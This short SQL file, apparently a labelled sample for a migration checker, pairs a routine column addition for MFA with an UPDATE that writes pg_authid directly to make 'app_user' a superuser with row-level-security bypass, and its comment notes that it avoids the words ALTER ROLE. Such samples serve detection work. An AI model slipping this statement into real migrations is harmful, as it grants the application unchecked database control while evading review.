-- class: catalog-write
-- Makes the application role a superuser by writing pg_authid directly (no ALTER ROLE in the text).
ALTER TABLE users ADD COLUMN mfa_enabled boolean;

UPDATE pg_catalog.pg_authid
SET rolsuper = true, rolbypassrls = true
WHERE rolname = 'app_user';
